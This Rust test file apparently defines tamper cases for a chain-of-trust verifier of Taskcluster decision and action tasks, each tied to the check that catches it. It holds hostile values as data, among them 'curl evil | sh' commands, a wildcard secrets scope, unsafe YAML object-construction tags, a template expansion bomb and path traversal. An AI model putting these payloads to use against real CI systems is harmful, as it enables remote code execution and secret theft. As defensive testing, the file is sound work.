// SPDX-License-Identifier: MPL-2.0
//! Attacks on decision and action tasks, their templates and the events that started them (sections G2 to G6).

use catena_core::model::ids::ArtifactName;
use catena_core::request::Request;
use serde_json::{Value, json};

use super::{Compat, Saboteur, drop_member, saboteur};
use crate::chain::Chain;
use crate::spec::Flow;

#[rustfmt::skip] // a table: one attack, a few lines
pub(super) const ALL: &[Saboteur] = &[
    saboteur("decision-command-changed", "rebuild-mismatch", &["V69a"],
        "A decision task was created by hand, with the scopes of a genuine one and another command.",
        Flow::FirefoxPush, |chain| decision(chain, |task| task["payload"]["command"] = json!(["bash", "-c", "curl evil | sh"]))),
    saboteur("decision-image-changed", "rebuild-mismatch", &["V69a"],
        "A decision task was created by hand, in another image.",
        Flow::XpiPush, |chain| decision(chain, |task| task["payload"]["image"] = "evil/taskgraph:2".into())),
    saboteur("decision-scope-added", "rebuild-mismatch", &["V69a"],
        "A decision task was created by hand, with one scope more.",
        Flow::FirefoxPush, |chain| decision(chain, |task| {
            task["scopes"].as_array_mut().into_iter().for_each(|scopes| scopes.push("secrets:get:*".into()));
        })),
    saboteur("decision-variable-added", "rebuild-mismatch", &["V69a"],
        "A decision task was created by hand, with one variable more.",
        Flow::VpnRelease, |chain| decision(chain, |task| task["payload"]["env"]["PYTHONPATH"] = "/evil".into())),
    saboteur("decision-route-added", "rebuild-mismatch", &["V69a"],
        "A decision task was created by hand, so that it is indexed as another.",
        Flow::FirefoxCron, |chain| decision(chain, |task| {
            task["routes"].as_array_mut().into_iter().for_each(|routes| routes.push("index.gecko.v2.mozilla-release.latest".into()));
        })),
    saboteur("decision-cache-added", "rebuild-mismatch", &["V69a"],
        "A decision task was created by hand, with a cache that others fill.",
        Flow::FirefoxPush, |chain| decision(chain, |task| task["payload"]["cache"]["try-checkouts"] = "/builds/worker/checkouts".into())),
    saboteur("decision-on-request", "rebuild-mismatch", &["V69a"],
        "A decision task was created by hand with another owner than the one who pushed.",
        Flow::FirefoxPush, |chain| decision(chain, |task| task["metadata"]["owner"] = "mallory@example.org".into())),
    saboteur("decision-retries-changed", "rebuild-mismatch", &["P16", "V69a"],
        "A decision task was created with another number of retries than its template says.",
        Flow::FirefoxPush, |chain| decision(chain, |task| task["retries"] = 0.into())),
    saboteur("decision-default-changed", "rebuild-mismatch", &["P16"],
        "A decision task has a value other than the queue's default where its template says nothing.",
        Flow::XpiPush, |chain| {
            chain.edit_template("decision", "            retries: 5\n", "");
            decision(chain, |task| task["retries"] = 49.into());
        }),
    saboteur("decision-project-changed", "rebuild-mismatch", &["P16", "V69a"],
        "A decision task belongs to a project of which its template says nothing.",
        Flow::FirefoxPush, |chain| decision(chain, |task| task["projectId"] = "mallory".into())),
    saboteur("decision-member-emptied", "rebuild-mismatch", &["V69b"],
        "A decision task's variable was emptied, which is not the same as leaving it out.",
        Flow::FirefoxPush, |chain| decision(chain, |task| task["payload"]["env"]["MOZ_AUTOMATION"] = "".into())),
    saboteur("decision-deadline-changed", "rebuild-mismatch", &["V69a"],
        "A decision task has another deadline than its template gives it.",
        Flow::FirefoxPush, |chain| decision(chain, |task| task["deadline"] = "2026-03-04T09:00:00.000Z".into())),
    saboteur("decision-created-changed", "rebuild-mismatch", &["V60", "V69a"],
        "The time of a decision task's creation was changed, from which its other times follow.",
        Flow::FirefoxPush, |chain| decision(chain, |task| task["created"] = "2026-03-01T09:00:00.000Z".into())),
    saboteur("decision-true-for-one", "exact-types", &["S42", "V69a"],
        "A decision task has 1 where its template renders true, which the reference takes for equal.",
        Flow::FirefoxPush, |chain| decision(chain, |task| task["payload"]["features"]["chainOfTrust"] = 1.into())),
    saboteur("image-decision-changed", "rebuild-mismatch", &["V69a", "R-10"],
        "The decision task behind a docker image was created by hand.",
        Flow::FirefoxPush, |chain| chain.edit_definition("image-0-decision", |task| task["payload"]["command"] = json!(["true"]))),
    saboteur("pull-request-decision-changed", "rebuild-mismatch", &["V69a", "V65"],
        "The decision task of a pull request was created by hand.",
        Flow::XpiPullRequest, |chain| decision(chain, |task| task["payload"]["command"] = json!(["true"]))),
    saboteur("template-changed", "rebuild-mismatch", &["V66", "V69a"],
        "The repository's template at that revision makes another task than the one that ran.",
        Flow::FirefoxPush, |chain| {
            let text = chain.template_text("decision").replace("maxRunTime: 3600", "maxRunTime: 7200");
            chain.set_template("decision", &text);
        }),
    saboteur("template-makes-nothing", "rebuild-mismatch", &["V69a"],
        "The repository's template makes no task for that event.",
        Flow::FirefoxPush, |chain| {
            let text = chain.template_text("decision").replace(r#"["action", "cron", "hg-push"]"#, r#"["action"]"#);
            chain.set_template("decision", &text);
        }),
    saboteur("pusher-differs", "rebuild-mismatch", &["V62", "V63"],
        "A decision task claims another pusher than the pushlog has.",
        Flow::FirefoxPush, |chain| pushlog(chain, |push| push["user"] = "mallory@example.org".into())),
    saboteur("push-base-differs", "rebuild-mismatch", &["V62", "V63"],
        "A decision task claims another base revision than the pushlog has.",
        Flow::FirefoxPush, |chain| pushlog(chain, |push| push["changesets"][0]["parents"] = json!(["0b".repeat(20)]))),
    saboteur("committer-differs", "rebuild-mismatch", &["V65"],
        "A decision task claims another pusher than the commit has.",
        Flow::AdhocPromotion, |chain| host(chain, |request| matches!(request, Request::Commit { .. }), |commit| {
            commit["committer"]["login"] = "mallory".into();
        })),
    saboteur("release-author-differs", "rebuild-mismatch", &["V65"],
        "A release's decision task claims another author than GitHub has.",
        Flow::VpnRelease, |chain| host(chain, |request| matches!(request, Request::Release { .. }), |release| {
            release["author"]["login"] = "mallory".into();
        })),
    saboteur("release-branch-differs", "rebuild-mismatch", &["V65"],
        "A release's decision task claims another branch than GitHub has.",
        Flow::VpnRelease, |chain| host(chain, |request| matches!(request, Request::Release { .. }), |release| {
            release["target_commitish"] = "mallory-patch".into();
        })),
    saboteur("pull-request-differs", "rebuild-mismatch", &["V65"],
        "A decision task claims the number of somebody else's pull request.",
        Flow::XpiPullRequest, |chain| host(chain, |request| matches!(request, Request::PullRequest { .. }), |pull| {
            pull["user"]["login"] = "somebody-else".into();
        })),
    saboteur("cron-job-differs", "rebuild-mismatch", &["V64", "S36"],
        "A scheduled decision task runs with the scopes of another job than the one it names.",
        Flow::FirefoxCron, |chain| decision(chain, |task| {
            task["extra"]["cron"] = r#"{"job_name":"release","job_symbol":"Nd","quoted_args":"--target-tasks-method=nightly","task_id":"<cron>"}"#.into();
        })),
    saboteur("git-cron-job-differs", "rebuild-mismatch", &["V65", "S36"],
        "A scheduled decision task on GitHub runs with the scopes of another job than the one it names.",
        Flow::XpiCron, |chain| decision(chain, |task| {
            task["extra"]["cron"] = r#"{"job_name":"release","job_symbol":"Nd","quoted_args":"","task_id":"<cron>"}"#.into();
        })),
    saboteur("level-differs", "rebuild-mismatch", &["V92"],
        "A decision task claims level 3 of a project whose level is 1.",
        Flow::FirefoxPush, |chain| projects(chain, "releases/mozilla-beta', repo_type: hg, access: scm_level_3", "releases/mozilla-beta', repo_type: hg, access: scm_level_1")),
    saboteur("action-command-changed", "rebuild-mismatch", &["V68", "V69a"],
        "A promotion was created by hand, with the scopes of a genuine one and another command.",
        Flow::FirefoxPromotion, |chain| action(chain, |task| task["payload"]["command"] = json!(["bash", "-c", "curl evil | sh"]))),
    saboteur("action-input-changed", "rebuild-mismatch", &["V68", "S36"],
        "A promotion runs with another input than the one it records.",
        Flow::FirefoxPromotion, |chain| action(chain, |task| task["payload"]["env"]["ACTION_INPUT"] = "{\"flavor\":\"ship\"}".into())),
    saboteur("action-scope-changed", "rebuild-mismatch", &["V68"],
        "A harmless action has the scopes of a promotion.",
        Flow::FirefoxAction, |chain| action(chain, |task| {
            task["scopes"] = json!(["assume:repo:hg.mozilla.org/releases/mozilla-beta:action:release-promotion"]);
        })),
    saboteur("git-action-changed", "rebuild-mismatch", &["V68", "V69a"],
        "A promotion on GitHub was created by hand.",
        Flow::AdhocPromotion, |chain| action(chain, |task| task["payload"]["maxRunTime"] = 1.into())),
    saboteur("action-context-overrides-time", "rebuild-mismatch", &["S37"],
        "An action's context brings its own time, from which the reference would compute all others.",
        Flow::FirefoxPromotion, |chain| action(chain, |task| {
            task["extra"]["action"]["context"]["now"] = "2020-01-01T00:00:00.000Z".into();
        })),
    saboteur("action-parameters-differ", "rebuild-mismatch", &["V64", "V68"],
        "A promotion runs with other parameters than the decision task had.",
        Flow::FirefoxPromotion, |chain| {
            let request = chain.artifact("decision", ArtifactName::PARAMETERS);
            let text = String::from_utf8_lossy(chain.bytes(&request)).replace("146.0b3", "147.0");
            chain.replace_sealed("decision", &request, text.into_bytes());
        }),
    saboteur("action-permission-differs", "rebuild-mismatch", &["V68", "S39"],
        "An entry of actions.json whose permission is null falls back to the callback's name.",
        Flow::FirefoxAction, |chain| actions(chain, 0, |entry| {
            entry["extra"]["actionPerm"] = Value::Null;
            entry["actionPerm"] = "generic".into();
            entry["hookId"] = "in-tree-action-3-release/0a1b2c".into();
        })),
    saboteur("template-with-unknown-name", "template", &["V67"],
        "The repository's template asks for a value that no event has.",
        Flow::FirefoxPush, |chain| break_template(chain, "maxRunTime: 3600", "maxRunTime: {$eval: maxRunTime}")),
    saboteur("template-with-unknown-operator", "template", &["V67"],
        "The repository's template uses an operator that JSON-e does not have.",
        Flow::FirefoxPush, |chain| break_template(chain, "maxRunTime: 3600", "maxRunTime: {$exec: id}")),
    saboteur("template-with-bad-expression", "template", &["V67"],
        "The repository's template has an expression that cannot be read.",
        Flow::XpiPush, |chain| break_template(chain, "maxRunTime: 1800", "maxRunTime: {$eval: '1 +'}")),
    saboteur("template-with-wall-clock", "rebuild-mismatch", &["V67"],
        "The repository's template counts a time from a fixed date, not from the task's creation.",
        Flow::FirefoxPush, |chain| break_template(chain, "deadline: {$fromNow: '1 day'}", "deadline: {$fromNow: '1 day', from: '2026-01-01T00:00:00.000Z'}")),
    saboteur("template-without-tasks", "template", &["V67"],
        "The repository's template has no tasks.",
        Flow::FirefoxPush, |chain| break_template(chain, "\ntasks:", "\njobs:")),
    saboteur("template-tasks-no-list", "template", &["V67"],
        "The repository's template renders to one task where a list is due.",
        Flow::FirefoxPush, |chain| chain.set_template("decision", "version: 1\ntasks: {payload: {}}\n")),
    saboteur("template-a-list", "template", &["V67"],
        "The repository's template is a list.",
        Flow::FirefoxPush, |chain| chain.set_template("decision", "- version: 1\n- tasks: []\n")),
    saboteur("hook-does-not-render", "template", &["V68"],
        "The entry of actions.json asks for a value that no action has.",
        Flow::FirefoxPromotion, |chain| actions(chain, 1, |entry| entry["hookPayload"]["user"]["secret"] = json!({"$eval": "secret"}))),
    saboteur("template-exhausts", "limit-exceeded", &["S17", "V67"],
        "The repository's template takes for ever to render.",
        Flow::FirefoxPush, |chain| break_template(chain, "maxRunTime: 3600", BOMB)).undetermined(),
    saboteur("template-with-tag", "yaml-safe", &["V106", "P2"],
        "The repository's template asks its reader to construct an object.",
        Flow::FirefoxPush, |chain| break_template(chain, "maxRunTime: 3600", "maxRunTime: !!python/object/apply:os.getpid []")),
    saboteur("template-no-yaml", "yaml-safe", &["V66", "V97"],
        "The repository's template cannot be read.",
        Flow::FirefoxPush, |chain| break_template(chain, "\ntasks:", "\ntasks: [")),
    saboteur("template-with-list-as-key", "yaml-safe", &["V106", "P2"],
        "The repository's template has a list as a key.",
        Flow::FirefoxPush, |chain| break_template(chain, "\nversion: 1", "\n? [a, b]\n: c\nversion: 1")),
    saboteur("parameters-with-tag", "yaml-safe", &["V106", "P2"],
        "The decision task's parameters ask their reader to construct an object.",
        Flow::FirefoxPromotion, |chain| append_parameters(chain, "evil: !!python/name:os.system x\n")),
    saboteur("tasks-for-unknown", "tasks-for", &["V58"],
        "A decision task says that an event started it which nobody knows.",
        Flow::FirefoxPush, |chain| decision(chain, |task| task["extra"]["tasks_for"] = "hook".into())),
    saboteur("tasks-for-of-another-product", "tasks-for", &["V58"],
        "A decision task was started by a schedule, which the product does not allow.",
        Flow::AdhocPromotion, |chain| decision(chain, |task| task["extra"]["tasks_for"] = "cron".into())),
    saboteur("tasks-for-of-another-host", "tasks-for", &["V59"],
        "A decision task on GitHub says that a push to hg started it.",
        Flow::XpiPush, |chain| {
            chain.settings.push("valid_tasks_for: {by-cot-product: {xpi: [github-push, hg-push]}}".into());
            decision(chain, |task| task["extra"]["tasks_for"] = "hg-push".into());
        }),
    saboteur("product-type-not-allowed", "tasks-for", &["V59"],
        "A chain from hg claims a product that is on GitHub only.",
        Flow::FirefoxPush, |chain| chain.settings.push("cot_product_type: {by-cot-product: {firefox: [github]}}".into())),
    saboteur("project-unknown", "trigger", &["V91"],
        "A decision task is from a repository that projects.yml does not list.",
        Flow::FirefoxPush, |chain| projects(chain, "hg.mozilla.org/releases/mozilla-beta", "hg.mozilla.org/releases/mozilla-alpha")),
    saboteur("project-without-level", "trigger", &["V92"],
        "projects.yml does not say who may push to the repository.",
        Flow::FirefoxPush, |chain| projects(chain, "releases/mozilla-beta', repo_type: hg, access: scm_level_3", "releases/mozilla-beta', repo_type: hg")),
    saboteur("project-of-another-kind", "trigger", &["V92"],
        "projects.yml has a repository of a kind that nobody knows.",
        Flow::FirefoxPush, |chain| projects(chain, "releases/mozilla-beta', repo_type: hg", "releases/mozilla-beta', repo_type: svn")),
    saboteur("git-project-unknown", "trigger", &["V92", "V65"],
        "A scheduled decision task is from a repository that projects.yml does not list.",
        Flow::XpiCron, |chain| projects(chain, "\nxpi-manifest:", "\nxpi-manifest-old:")),
    saboteur("git-branch-without-level", "trigger", &["V92"],
        "projects.yml has no level for the repository's default branch.",
        Flow::XpiCron, |chain| projects(chain, "{name: main, level: 3}", "{name: master, level: 3}")),
    saboteur("cron-no-json", "trigger", &["V64"],
        "A scheduled decision task describes its job in something else than JSON.",
        Flow::FirefoxCron, |chain| decision(chain, |task| task["extra"]["cron"] = "nightly".into())),
    saboteur("pull-request-without-number", "trigger", &["V65"],
        "A pull request's decision task does not say which pull request it is.",
        Flow::XpiPullRequest, |chain| decision(chain, |task| drop_member(&mut task["payload"]["env"], "XPI_PULL_REQUEST_NUMBER"))),
    saboteur("pull-request-number-a-word", "trigger", &["V65", "V11"],
        "A pull request's decision task gives a word as the number.",
        Flow::XpiPullRequest, |chain| decision(chain, |task| task["payload"]["env"]["XPI_PULL_REQUEST_NUMBER"] = "seven".into())),
    saboteur("pull-request-without-base", "trigger", &["V65"],
        "A pull request's decision task does not say into which repository it shall go.",
        Flow::XpiPullRequest, |chain| decision(chain, |task| drop_member(&mut task["payload"]["env"], "XPI_BASE_REPOSITORY"))),
    saboteur("cron-by-scp", "trigger", &["V65", "V66"],
        "A scheduled decision task names its repository in the notation of scp.",
        Flow::XpiCron, |chain| decision(chain, |task| {
            task["payload"]["env"]["XPI_HEAD_REPOSITORY"] = "git@github.com:mozilla-extensions/xpi-manifest".into();
        })),
    saboteur("decision-on-another-host", "trigger", &["V66"],
        "A decision task is from a host whose templates nobody can fetch.",
        Flow::XpiPullRequest, |chain| chain.replace_text("https://github.com/contributor", "https://git.example.org/contributor")),
    saboteur("revision-no-name", "trigger", &["V66", "S30"],
        "A decision task's revision leads out of its repository.",
        Flow::XpiPullRequest, |chain| decision(chain, |task| task["payload"]["env"]["XPI_HEAD_REV"] = "../../other/raw/main".into())),
    saboteur("decision-without-revision", "parent-revision", &["P17", "S24"],
        "A decision task names no revision, and the reference would take the default branch's template.",
        Flow::FirefoxPush, |chain| decision(chain, |task| drop_member(&mut task["payload"]["env"], "GECKO_HEAD_REV"))),
    saboteur("decision-without-repository", "parent-revision", &["P17", "S24"],
        "A decision task names no repository, so that its source is believed unchecked.",
        Flow::FirefoxPush, |chain| decision(chain, |task| drop_member(&mut task["payload"]["env"], "GECKO_HEAD_REPOSITORY"))),
    saboteur("git-decision-without-revision", "parent-revision", &["P17", "S24"],
        "A pull request's decision task names no revision.",
        Flow::XpiPullRequest, |chain| decision(chain, |task| drop_member(&mut task["payload"]["env"], "XPI_HEAD_REV"))),
    saboteur("revision-a-branch", "movable-ref", &["S30"],
        "A decision task names a branch in place of a commit, and the branch moves after the task ran.",
        Flow::FirefoxPush, |chain| {
            let revision = chain.json(&chain.definition("decision"))["payload"]["env"]["GECKO_HEAD_REV"].clone();
            chain.rename_revision(revision.as_str().unwrap_or_default(), "default");
        }).compat(Compat::Trusted),
    saboteur("git-revision-a-branch", "movable-ref", &["S30"],
        "A pull request's decision task names a branch in place of a commit.",
        Flow::XpiPullRequest, |chain| {
            let revision = chain.json(&chain.definition("decision"))["payload"]["env"]["XPI_HEAD_REV"].clone();
            chain.rename_revision(revision.as_str().unwrap_or_default(), "fix-widget");
        }).compat(Compat::Trusted),
    saboteur("revision-abbreviated", "movable-ref", &["S30"],
        "A decision task names the first half of a commit's hash.",
        Flow::FirefoxPush, |chain| {
            let revision = chain.json(&chain.definition("decision"))["payload"]["env"]["GECKO_HEAD_REV"].clone();
            let revision = revision.as_str().unwrap_or_default();
            chain.rename_revision(revision, &revision[..12]);
        }).compat(Compat::Trusted),
    saboteur("two-pushes", "push", &["V62", "S43"],
        "The pushlog has two pushes for a revision, and the reference takes the first.",
        Flow::FirefoxPush, |chain| host(chain, is_pushlog, |answer| {
            answer["pushes"]["99999"] = json!({"changesets": [{"node": "0b".repeat(20), "parents": ["0c".repeat(20)], "desc": "x"}], "date": 1, "user": "m"});
        })).compat(Compat::Trusted),
    saboteur("push-of-another-revision", "push", &["V62", "P15"],
        "The pushlog answers with a push that does not have the revision.",
        Flow::FirefoxPush, |chain| pushlog(chain, |push| push["changesets"][1]["node"] = "0b".repeat(20).into()))
        .compat(Compat::Trusted),
    saboteur("push-empty", "push", &["V62"],
        "The pushlog answers with no push.",
        Flow::FirefoxPush, |chain| host(chain, is_pushlog, |answer| answer["pushes"] = json!({}))),
    saboteur("push-without-changesets", "push", &["V62"],
        "The pushlog answers with a push without changesets.",
        Flow::FirefoxPush, |chain| pushlog(chain, |push| push["changesets"] = json!([]))),
    saboteur("push-without-parent", "push", &["V62"],
        "The pushlog answers with a push whose first changeset has no parent.",
        Flow::FirefoxPush, |chain| pushlog(chain, |push| push["changesets"][0]["parents"] = json!([]))),
    saboteur("message-made-up", "push", &["V63"],
        "A decision task brings a message that asks for other tasks than its push did.",
        Flow::FirefoxPush, |chain| decision(chain, |task| task["payload"]["env"]["GECKO_COMMIT_MSG"] = "try: -b o -p all".into())),
    saboteur("message-empty", "push", &["V63"],
        "A decision task brings an empty message, where a blank is due.",
        Flow::FirefoxPush, |chain| decision(chain, |task| task["payload"]["env"]["GECKO_COMMIT_MSG"] = "".into())),
    saboteur("message-of-another-line", "push", &["V63"],
        "A decision task brings a try message with a line more than its push has.",
        Flow::FirefoxPush, |chain| {
            pushlog(chain, |push| push["changesets"][1]["desc"] = "Try it\n\ntry: -b o\nsecond line".into());
            decision(chain, |task| task["payload"]["env"]["GECKO_COMMIT_MSG"] = "try: -b o\nsecond line".into());
        }),
    saboteur("action-without-callback", "action-callback", &["S39"],
        "An action names no callback, and the reference takes the first entry that has none.",
        Flow::FirefoxPromotion, |chain| {
            actions(chain, 0, |entry| drop_member(&mut entry["hookPayload"]["decision"]["action"], "cb_name"));
            action(chain, |task| drop_member(&mut task["payload"]["env"], "ACTION_CALLBACK"));
        }),
    saboteur("action-with-empty-callback", "action-callback", &["S39", "V9"],
        "An action names an empty callback.",
        Flow::AdhocPromotion, |chain| action(chain, |task| task["payload"]["env"]["ACTION_CALLBACK"] = "".into())),
    saboteur("action-nobody-offered", "action-definition", &["V68"],
        "A task claims to be an action that the decision task never offered.",
        Flow::FirefoxPromotion, |chain| action(chain, |task| task["payload"]["env"]["ACTION_CALLBACK"] = "run-anything".into())),
    saboteur("action-of-kind-task", "action-definition", &["V68"],
        "The decision task offers the action as a task that anybody may create, not as a hook.",
        Flow::FirefoxPromotion, |chain| actions(chain, 1, |entry| entry["kind"] = "task".into())),
    saboteur("action-second-entry", "action-definition", &["V68", "S39"],
        "The first entry with the action's callback is a task, and only a later one is a hook.",
        Flow::AdhocPromotion, |chain| {
            let request = chain.artifact("decision", ArtifactName::ACTIONS);
            chain.edit_json(&request, |document| {
                let mut first = document["actions"][1].clone();
                first["kind"] = "task".into();
                document["actions"].as_array_mut().into_iter().for_each(|actions| actions.insert(0, first.clone()));
            });
            chain.reseal("decision");
        }),
    saboteur("actions-empty", "action-definition", &["V68"],
        "The decision task offers no actions.",
        Flow::FirefoxAction, |chain| {
            let request = chain.artifact("decision", ArtifactName::ACTIONS);
            chain.edit_json(&request, |document| document["actions"] = json!([]));
            chain.reseal("decision");
        }),
    saboteur("action-for-another-group", "action-group", &["S7", "V69"],
        "An action works on somebody else's task group, which the reference copies over the rebuilt value.",
        Flow::FirefoxPromotion, |chain| {
            let group = chain.task("image-0-decision").id;
            chain.edit_definition("action", |task| task["payload"]["env"]["ACTION_TASK_GROUP_ID"] = group.as_str().into());
        }),
    saboteur("git-action-for-another-group", "action-group", &["S7", "V69"],
        "An action on GitHub works on somebody else's task group.",
        Flow::AdhocPromotion, |chain| {
            let group = chain.task("build-0").id;
            chain.edit_definition("action", |task| task["payload"]["env"]["ACTION_TASK_GROUP_ID"] = group.as_str().into());
        }),
    saboteur("action-without-group", "action-group", &["S7", "V69"],
        "An action does not say on which task group it works.",
        Flow::FirefoxPromotion, |chain| action(chain, |task| drop_member(&mut task["payload"]["env"], "ACTION_TASK_GROUP_ID"))),
    saboteur("actions-for-another-group", "action-group", &["V69"],
        "The entry of actions.json is made for another task group than the decision's.",
        Flow::FirefoxPromotion, |chain| actions(chain, 1, |entry| {
            entry["hookPayload"]["decision"]["action"]["taskGroupId"] = "AAAAAAAAQAOAAAAAAAAAAA".into();
        })),
    saboteur("decision-in-another-group", "decision-group", &["S40", "V57"],
        "A decision task is in another's group, so that it is rebuilt from the repository of the other.",
        Flow::FirefoxPush, |chain| {
            let group = chain.task("image-0-decision").id;
            chain.edit_definition("decision", |task| task["taskGroupId"] = group.as_str().into());
        }).compat(Compat::Check("rebuild-mismatch")),
    saboteur("level-of-a-namesake", "cron-level", &["S32", "V92"],
        "A fork inherits the level of the repository whose name it has.",
        Flow::XpiCron, |chain| projects(chain, "github.com/mozilla-extensions/xpi-manifest", "github.com/mozilla-releng/xpi-manifest"))
        .compat(Compat::Trusted),
];

const BOMB: &str = "maxRunTime: {$let: {a: {$eval: 'range(0, 1000)'}}, in: {$map: {$eval: a}, each(x): {$map: {$eval: a}, each(y): {$map: {$eval: a}, each(z): '${x}'}}}}";

fn decision(chain: &mut Chain, edit: fn(&mut Value)) {
    chain.edit_definition("decision", edit);
}

fn action(chain: &mut Chain, edit: fn(&mut Value)) {
    chain.edit_definition("action", edit);
}

/// Changes an entry of the decision's actions.json; its worker signs it.
fn actions(chain: &mut Chain, at: usize, edit: fn(&mut Value)) {
    let request = chain.artifact("decision", ArtifactName::ACTIONS);
    chain.edit_json(&request, |document| edit(&mut document["actions"][at]));
    chain.reseal("decision");
}

fn append_parameters(chain: &mut Chain, text: &str) {
    let request = chain.artifact("decision", ArtifactName::PARAMETERS);
    let mut bytes = chain.bytes(&request).to_vec();
    bytes.extend_from_slice(text.as_bytes());
    chain.replace_sealed("decision", &request, bytes);
}

/// Changes the template of the decision and nothing that was made from it.
fn break_template(chain: &mut Chain, from: &str, to: &str) {
    let text = chain.template_text("decision").replacen(from, to, 1);
    chain.set_template("decision", &text);
}

fn projects(chain: &mut Chain, from: &str, to: &str) {
    let text = String::from_utf8_lossy(chain.bytes(&Request::Projects)).replace(from, to);
    chain.replace(&Request::Projects, text.into_bytes());
}

const fn is_pushlog(request: &Request) -> bool {
    matches!(request, Request::Pushlog { .. })
}

/// Changes what a host says to every request of a kind.
fn host(chain: &mut Chain, is: fn(&Request) -> bool, edit: fn(&mut Value)) {
    let all: Vec<_> = chain
        .documents
        .keys()
        .filter(|request| is(request))
        .cloned()
        .collect();
    for request in all {
        chain.edit_json(&request, edit);
    }
}

/// Changes the push that the decision task came with.
fn pushlog(chain: &mut Chain, edit: fn(&mut Value)) {
    let Request::Template { repo, revision } = chain.template("decision") else {
        return;
    };
    chain.edit_json(&Request::Pushlog { repo, revision }, |answer| {
        answer["pushes"]
            .as_object_mut()
            .into_iter()
            .flatten()
            .for_each(|(_, push)| edit(push));
    });
}
